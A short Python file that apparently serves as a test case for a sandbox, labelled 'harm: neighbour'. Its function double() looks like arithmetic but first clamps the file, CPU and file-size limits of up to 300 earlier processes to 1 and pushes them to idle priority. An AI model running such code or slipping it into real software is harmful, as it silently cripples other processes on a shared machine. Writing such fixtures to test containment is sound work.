"""Takes files, time and processors away from the processes that were started before it.

must: ok
harm: neighbour
then: ok | crashed | timeout
"""

import contextlib
import os
import resource


def double(x):
    for pid in range(max(2, os.getpid() - 300), os.getpid()):
        for which in (resource.RLIMIT_NOFILE, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE):
            with contextlib.suppress(OSError, ValueError):
                resource.prlimit(pid, which, (1, 1))
        with contextlib.suppress(OSError):
            os.setpriority(os.PRIO_PROCESS, pid, 19)
        with contextlib.suppress(OSError):
            os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
    return 2 * x


def triple(x):
    return 3 * x
